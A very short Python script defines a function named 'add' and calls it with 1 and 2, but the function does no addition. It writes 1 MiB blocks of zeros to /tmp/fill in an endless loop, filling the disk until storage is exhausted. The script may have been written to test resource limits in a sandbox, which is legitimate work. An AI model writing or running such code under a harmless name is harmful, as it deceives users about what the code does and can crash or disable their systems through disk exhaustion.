def add(a, b):
    with open("/tmp/fill", "wb") as file:
        while True:
            file.write(bytes(1 << 20))

if __name__ == "__main__":
    add(1, 2)
